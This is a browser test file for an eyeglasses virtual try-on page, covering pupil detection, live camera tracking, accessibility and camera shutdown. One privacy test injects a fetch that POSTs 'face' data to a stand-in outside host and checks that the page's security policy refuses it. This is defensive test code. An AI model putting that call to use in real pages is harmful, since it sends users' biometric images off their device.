import type { Page } from "playwright-core";
import sharp from "sharp";
import { beforeAll, expect, test } from "vitest";
import { desk, openPage, phone, takeWholeBrowser } from "#tests/support/browser/browser.ts";
import { drawFace, type DrawnFace } from "#tests/support/browser/draw-face.ts";
import { findBarriers } from "#tests/support/browser/find-barriers.ts";
import { findProduct } from "#tests/support/browser/find-product.ts";
import { openAwake } from "#tests/support/browser/sign-in-at.ts";
import { fileOf, listUploads, openWithPhoto, putOn } from "#tests/support/browser/try-on-page.ts";
import { ownShop } from "#tests/support/process/own-shop.ts";

takeWholeBrowser();

let face: DrawnFace;
let path: string;
beforeAll(async () => {
  face = await drawFace();
  const { product_live_sale_id: id } = await findProduct(
    "eye_glasses",
    (product) => product.productattributes.length > 1,
  );
  path = `/try-on/${id}`;
});

const patience = { timeout: 40_000 };
const isFinder = (url: string) => /\.tflite$|face-worker|find-eyes|start-finder/.test(new URL(url).pathname);
const says = (page: Page, words: string) => page.getByRole("status").filter({ hasText: words }).waitFor(patience);

async function marksOf(page: Page): Promise<{ x: number; y: number }[]> {
  const words = await page
    .getByRole("slider", { name: /pupil$/ })
    .evaluateAll((all) => all.map((one) => one.getAttribute("aria-valuetext")!));
  return words.map((text) => {
    const [, x, y] = /^(\d+) across, (\d+) down/.exec(text)!;
    return { x: Number(x), y: Number(y) };
  });
}

/** How far the worse of both marks is from its pupil, in millimetres of the drawn face. */
const offBy = ([right, left]: { x: number; y: number }[], { right: r, left: l, pxPerMm }: DrawnFace) =>
  Math.max(Math.hypot(right!.x - r.x, right!.y - r.y), Math.hypot(left!.x - l.x, left!.y - l.y)) / pxPerMm;

test("pupils are found when it is asked for, on the device, and what is found can be worn", async () => {
  const page = await openPage(phone);
  await openAwake(page, path);
  const { asked, uploads } = listUploads(page);
  await page.getByLabel("Photo file").setInputFiles(fileOf(face));
  await page.getByRole("button", { name: "Find my eyes" }).waitFor();
  expect(asked.filter(isFinder)).toEqual([]);
  // Far from where they belong.
  const right = page.getByRole("slider", { name: "Right pupil" });
  await right.focus();
  for (let press = 0; press < 4; press += 1) await page.keyboard.press("Shift+ArrowUp");
  expect(offBy(await marksOf(page), face)).toBeGreaterThan(5);
  await page.getByRole("button", { name: "Find my eyes" }).click();
  await says(page, "The crosses are on your pupils.");
  expect(offBy(await marksOf(page), face)).toBeLessThan(1.2);
  await expect.poll(() => findBarriers(page)).toEqual([]);
  const stage = await putOn(page);
  // Under the front, and shorter than the lens is wide.
  expect(
    await stage.locator(".try-on-front > :is(.try-on-temple, image)").evaluateAll((all) => all.at(-1)!.tagName),
  ).toBe("image");
  expect(await stage.locator(".try-on-temple").count()).toBe(2);
  expect(uploads).toEqual([]);
  expect(asked.filter((url) => url.endsWith(".tflite"))).toHaveLength(1);
});

test("where no eyes are found, and where the search cannot be had, the marks stay", async () => {
  const page = await openPage(desk);
  const wall = await sharp({ create: { width: 900, height: 1_200, channels: 3, background: "#9ab" } })
    .jpeg()
    .toBuffer();
  await openWithPhoto(page, path, { ...face, jpeg: wall });
  const before = await marksOf(page);
  // Answered, but not by the shop.
  await page.route("**/*.tflite", (route) => route.fulfill({ status: 200, contentType: "text/html", body: "captive" }));
  await page.getByRole("button", { name: "Find my eyes" }).click();
  await says(page, "We could not load the search for eyes.");
  await page.unroute("**/*.tflite");
  await page.getByRole("button", { name: "Find my eyes" }).click();
  await says(page, "We could not find two eyes. Mark them yourself.");
  expect(await marksOf(page)).toEqual(before);
});

/** A camera that films a drawn face: real pixels in a real stream. */
async function filmFace(page: Page, jpeg: Buffer): Promise<void> {
  await page.evaluate(
    async (bytes) => {
      const picture = await createImageBitmap(new Blob([Uint8Array.from(bytes)]));
      const canvas = document.createElement("canvas");
      Object.assign(canvas, { width: picture.width, height: picture.height });
      const draw = () => canvas.getContext("2d")!.drawImage(picture, 0, 0);
      draw();
      setInterval(draw, 100);
      navigator.mediaDevices.getUserMedia = () => Promise.resolve(canvas.captureStream(10));
    },
    [...jpeg],
  );
}

const trackOf = (page: Page) =>
  page.locator("video").evaluateHandle((video) => {
    return ((video as HTMLVideoElement).srcObject as MediaStream).getTracks()[0]!;
  });

/** By keyboard, while the camera runs. */
async function chooseAnotherColour(page: Page): Promise<void> {
  const colours = page.getByRole("radiogroup", { name: "Colour" });
  const [worn, front] = [colours.getByRole("radio", { checked: true }), page.locator(".try-on-live-front img")];
  const [before, src] = [await worn.getAttribute("aria-label"), await front.getAttribute("src")];
  for (const { width, height } of await colours
    .locator(".swatch")
    .evaluateAll((all) => all.map((one) => one.getBoundingClientRect().toJSON())))
    expect(Math.min(width, height)).toBeGreaterThanOrEqual(44);
  await worn.focus();
  await page.keyboard.press("ArrowRight");
  await expect.poll(() => worn.getAttribute("aria-label")).not.toBe(before);
  const named = await worn.getAttribute("aria-label");
  await expect.poll(() => front.getAttribute("src")).not.toBe(src);
  expect(
    await front.evaluate(async (image: HTMLImageElement) => image.decode().then(() => image.naturalWidth > 0)),
  ).toBe(true);
  await page.getByText(`Colour: ${named}`).waitFor();
  expect(await page.locator("video").getAttribute("aria-label")).toContain(` in ${named}`);
  expect(await worn.evaluate((radio) => radio === document.activeElement)).toBe(true);
}

test("live, the glasses follow the face, the picture that is taken is marked, and nothing leaves the device", async () => {
  const page = await openPage(phone);
  await openAwake(page, path);
  // Beside the middle and below it: neither the outline nor a picture that is no mirror has it there.
  const small = await drawFace({ width: 600, height: 800, pxPerMm: 2.2, across: 0.42, down: 0.5 });
  await filmFace(page, small.jpeg);
  const { asked, uploads } = listUploads(page);
  await page.getByRole("button", { name: "Try it live" }).click();
  await says(page, "The glasses follow your face.");
  await expect.poll(() => findBarriers(page)).toEqual([]);
  // As in a mirror, the middle of the front is where the nose is; on a slow device, where the outline has it.
  const front = page.locator(".try-on-live-front img");
  await front.waitFor();
  const down = small.right.y / small.height;
  const seen = () =>
    front.evaluate(
      (image, { width, pxPerMm }) => {
        const box = image.getBoundingClientRect();
        const mirror = image.closest(".try-on-live")!.getBoundingClientRect();
        const mm = (mirror.width / width) * pxPerMm;
        const words = [...document.querySelectorAll(".try-on-camera [role=status]")].map((one) => one.textContent);
        return {
          isOutline: words.some((text) => text?.startsWith("Hold your face")),
          x: (box.left + box.width / 2 - mirror.left) / mm,
          y: (box.top + box.height / 2 - mirror.top) / mm,
        };
      },
      { width: small.width, pxPerMm: small.pxPerMm },
    );
  const isWhereSaid = async () => {
    const { isOutline, x, y } = await seen();
    const [across, below] = isOutline ? [0.5, 0.44] : [1 - 0.42, down];
    const off = [x - (across * small.width) / small.pxPerMm, y - (below * small.height) / small.pxPerMm];
    return Math.abs(off[0]!) < 3 && Math.abs(off[1]!) < 8 ? "there" : JSON.stringify({ isOutline, off });
  };
  await expect.poll(isWhereSaid).toBe("there");
  const track = await trackOf(page);
  await chooseAnotherColour(page);
  expect(await track.evaluate(({ readyState }) => readyState)).toBe("live");
  await expect.poll(isWhereSaid).toBe("there");
  await page.getByRole("button", { name: "Take the picture" }).click();
  await page.getByRole("heading", { name: "Put a cross on each pupil" }).waitFor(patience);
  expect(await track.evaluate(({ readyState }) => readyState)).toBe("ended");
  expect(offBy(await marksOf(page), small)).toBeLessThan(1.5);
  await putOn(page);

  expect(uploads).toEqual([]);
  expect(asked.every((url) => url.startsWith(ownShop().url))).toBe(true);
  // Whoever tried would be refused: the page by its policy, the worker by its own, which allows nothing at all.
  const policy = (await page.request.get(path)).headers()["content-security-policy"]!;
  expect(policy.split("; ")).toContain("connect-src 'self'");
  const worker = asked.find((url) => url.includes("face-worker"))!;
  expect((await page.request.get(worker)).headers()["content-security-policy"]).toBe("default-src 'none'");
  // Not one that fails a test by what its console says of a refusal.
  const other = await page.context().newPage();
  await other.goto(path);
  const refused = await other.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective));
        fetch("https://elsewhere.example/", { method: "POST", body: "face" }).then(
          () => resolve("sent"),
          () => {},
        );
      }),
  );
  expect(refused).toBe("connect-src");
});

test("live without the search there is an outline; a camera out of sight or forgotten is switched off, and starts again", async () => {
  const page = await openPage(phone, { permissions: ["camera"] });
  await openAwake(page, path);
  await page.route("**/*.tflite", (route) => route.fulfill({ status: 200, contentType: "text/html", body: "captive" }));
  await page.getByRole("button", { name: "Try it live" }).click();
  await says(page, "Hold your face in the outline");
  await page.locator(".try-on-live-front img").waitFor();
  const track = await trackOf(page);
  await page.evaluate(() => {
    Object.defineProperty(document, "hidden", { get: () => true, configurable: true });
    document.dispatchEvent(new Event("visibilitychange"));
  });
  await says(page, "We switched the camera off while this page was out of sight.");
  expect(await track.evaluate(({ readyState }) => readyState)).toBe("ended");
  await page.evaluate(() => Object.defineProperty(document, "hidden", { get: () => false, configurable: true }));
  await page.clock.install();
  const again = page.getByRole("button", { name: "Start the camera again" });
  await again.click();
  await page.locator(".try-on-live-front img").waitFor(patience);
  const second = await trackOf(page);
  await page.clock.fastForward("04:30");
  expect(await second.evaluate(({ readyState }) => readyState)).toBe("live");
  await page.clock.fastForward("00:30");
  await says(page, "We switched the camera off after five minutes.");
  expect(await second.evaluate(({ readyState }) => readyState)).toBe("ended");
  await expect.poll(() => again.evaluate((button) => button === document.activeElement)).toBe(true);
  await page.keyboard.press("Enter");
  await page.locator(".try-on-live-front img").waitFor(patience);
  await page.getByRole("button", { name: "Stop the camera" }).click();
  await page.evaluate(() => {
    navigator.mediaDevices.getUserMedia = () => Promise.reject(new DOMException("No", "NotAllowedError"));
  });
  await page.getByRole("button", { name: "Try it live" }).click();
  await page.getByRole("alert").filter({ hasText: "The camera is blocked." }).waitFor(patience);
});
